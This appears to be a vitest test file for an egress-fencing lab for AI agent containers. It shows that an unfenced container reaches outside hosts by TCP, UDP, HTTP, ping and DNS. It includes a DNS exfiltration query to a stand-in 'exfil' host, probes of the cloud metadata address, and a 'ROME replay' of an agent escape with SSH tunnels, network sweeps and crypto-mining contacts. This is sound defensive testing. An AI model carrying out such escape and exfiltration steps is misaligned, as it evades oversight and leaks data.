import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  dnsQueriesSeen,
  docker,
  insideInternet,
  lab,
  mark,
  observed,
  packetsArrived,
  packetsTo,
  setAddresses,
} from '../support/lab.ts';
import { leaksSince, snapshot, type Snapshot } from '../support/leak-check.ts';
import { startReceiver } from '../support/receiver.ts';

/**
 * The lab proves itself: without a fence every road out of a container is open and shows in the records. A later
 * "nothing arrived" is worth something only because of this.
 */
const UNFENCED = [
  'run',
  '--rm',
  '--user',
  '10001',
  '--dns',
  lab.resolver,
  '--cap-drop',
  'ALL',
  'ringfence/agent-shell:local',
];

let before: Snapshot;
beforeAll(async () => {
  before = await snapshot();
});
afterAll(async () => {
  expect(await leaksSince(before)).toEqual([]);
});

describe('the records of the attacked side', () => {
  test.each([
    { kind: 'tcp', address: '10.99.0.5', port: '5432', server: 'sink' },
    { kind: 'tcp', address: '203.0.113.10', port: '443', server: 'ssh' },
    { kind: 'tcp', address: '198.51.100.20', port: '3333', server: 'pool' },
    { kind: 'udp', address: '203.0.113.66', port: '443', server: 'sink' },
    { kind: 'http', address: '169.254.169.254', port: '80', server: 'http' },
    { kind: 'https', address: '203.0.113.66', port: '443', server: 'https' },
  ])('show $kind from an unfenced container to $address:$port', async ({ kind, address, port, server }) => {
    const since = await mark();
    await docker(...UNFENCED, 'sh', '/agent/walk-out.sh', kind, address, port);
    const seen = await observed({ since });
    expect(seen.filter((entry) => entry.event !== 'close').map((entry) => entry.server)).toContain(server);
    const packets = await packetsTo(address, { since });
    expect(packets.map((packet) => packet.destinationPort)).toContain(Number(port));
  });

  test('show a ping and a question to another resolver', async () => {
    const since = await mark();
    await docker(...UNFENCED, 'sh', '/agent/walk-out.sh', 'ping', '203.0.113.66');
    await docker(...UNFENCED, 'sh', '/agent/walk-out.sh', 'dig', lab.otherResolver, 'secret.exfil.example.test');
    expect((await packetsTo('203.0.113.66', { since })).map((packet) => packet.protocol)).toEqual(['icmp', 'icmp']);
    expect(await dnsQueriesSeen({ since })).toMatchObject([
      { name: 'secret.exfil.example.test', type: 'A', resolver: lab.otherResolver, protocol: 'udp' },
    ]);
  });

  test('show IPv6', async () => {
    const since = await mark();
    const socket = connect({ host: '2001:db8:ff00::66', port: 80 });
    await new Promise<void>((resolve, reject) => {
      socket.once('connect', resolve);
      socket.once('error', reject);
    });
    socket.destroy();
    expect((await packetsTo('2001:db8:ff00::66', { since })).length).toBeGreaterThan(0);
  });

  test('show nothing when nothing was sent', async () => {
    const since = await mark();
    await docker(...UNFENCED, 'true');
    expect({ seen: await observed({ since }), packets: await packetsArrived({ since }) }).toEqual({
      seen: [],
      packets: [],
    });
  });
});

test('the ROME replay gets out by every road when nobody stops it', { timeout: 120_000 }, async () => {
  const since = await mark();
  const output = await docker(...UNFENCED, 'python3', '/agent/rome.py', '--seconds', '0');
  const seen = await observed({ since });
  const reached = (server: string, address: string): boolean =>
    seen.some((entry) => entry.server === server && entry.localAddress === address && entry.event !== 'open');
  const tunnels = seen.filter(
    (entry) => entry.server === 'ssh' && entry.localAddress === lab.sshHost && entry.event === 'close',
  );
  const labels = new Set(
    (await dnsQueriesSeen({ since })).map((query) => query.name).filter((name) => name.endsWith('.exfil.example.test')),
  );
  expect({
    steps: output.match(/^step \w+ begins$/gm)?.length,
    tunnelsStood: output.match(/^the tunnel stood$/gm)?.length,
    honest: reached('site', '192.0.2.30'),
    swept: reached('sink', '10.99.0.5'),
    metadata: reached('site', '169.254.169.254'),
    tunnels: tunnels.map((entry) => entry.localPort).toSorted((a, b) => a - b),
    mined: reached('pool', '198.51.100.20'),
    labels: labels.size,
  }).toEqual({
    steps: 7,
    tunnelsStood: 2,
    honest: true,
    swept: true,
    metadata: true,
    tunnels: [22, 443],
    mined: true,
    labels: 200,
  });
});

test('a name can be given other addresses while the lab runs', async () => {
  await setAddresses('rebind.example.test', ['192.0.2.40']);
  await setAddresses('rebind.example.test', ['10.99.0.5']);
});

test('the internet is a namespace of its own', async () => {
  const inside = await insideInternet('ip', ['-oneline', 'link', 'show', 'downlink']);
  expect(inside.exitCode).toBe(0);
  expect(inside.stdout).toContain(lab.internetMac);
});

test('the receiver refuses what was not signed with its secret', async () => {
  await using receiver = await startReceiver();
  receiver.answerNext({ status: 500 });
  const answers = [await post(receiver.url), await post(receiver.url)];
  expect(answers).toEqual([500, 204]);
  expect(receiver.deliveries.map((delivery) => delivery.verified)).toEqual([false, false]);
});

async function post(url: string): Promise<number> {
  const response = await fetch(url, {
    method: 'POST',
    body: '{}',
    headers: { 'webhook-id': 'msg_1', 'webhook-timestamp': '0', 'webhook-signature': 'v1,AAAA' },
  });
  return response.status;
}
